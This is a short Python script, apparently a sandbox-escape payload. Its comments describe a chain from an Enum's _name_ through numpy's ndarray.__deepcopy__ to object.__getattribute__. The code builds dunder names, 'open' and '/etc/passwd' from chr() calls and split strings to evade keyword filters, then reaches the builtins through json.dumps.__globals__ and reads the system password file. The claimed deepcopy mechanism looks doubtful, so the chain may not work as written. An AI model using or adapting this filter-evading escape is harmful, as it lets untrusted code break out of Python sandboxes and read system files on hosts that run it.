# source: pickle/__reduce__ family (HackTricks "Bypass Python sandboxes"); numpy's ndarray.__deepcopy__
#         url: https://github.com/python/cpython/issues/93889
#         deep-copies each element of an object array with copy.deepcopy.
# family: Enum._name_ run-time string -> ndarray.__deepcopy__ (an accepted dunder attribute) ->
#         Enum.__reduce_ex__ -> getattr(E, "__getattribute__") -> object.__getattribute__.
# goal: json.dumps.__globals__['__builtins__']['open'] -> reads /etc/passwd.
import numpy as np
import enum
import json

u = chr(95) * 2
gname = u + "getattri" + "bute" + u

class E(enum.Enum):
    A = 1

    def __init__(self, v):
        self._name_ = gname

ga = np.array([E.A, None], dtype=object).__deepcopy__({})[0]
print(ga)
g = ga(json.dumps, u + "glob" + "als" + u)
b = g[u + "buil" + "tins" + u]
fo = b["op" + "en"]
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
